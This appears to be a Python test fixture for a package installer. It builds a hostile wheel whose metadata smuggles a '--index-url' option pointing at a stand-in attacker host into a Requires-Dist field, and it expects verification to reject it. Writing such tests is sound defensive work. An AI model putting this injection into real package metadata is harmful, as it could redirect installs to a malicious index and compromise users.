"""Require what is an option to the resolver."""

from tests.hostile.wheel_parts import INFO, METADATA, Wheel, wheel_with

STAGE = "verify"
REFUSED = "runtime-requirements"
SAID = "its metadata is invalid"


def make() -> Wheel:
    return wheel_with(**{f"{INFO}/METADATA": METADATA + b"Requires-Dist: --index-url=https://evil.example/simple\n"})
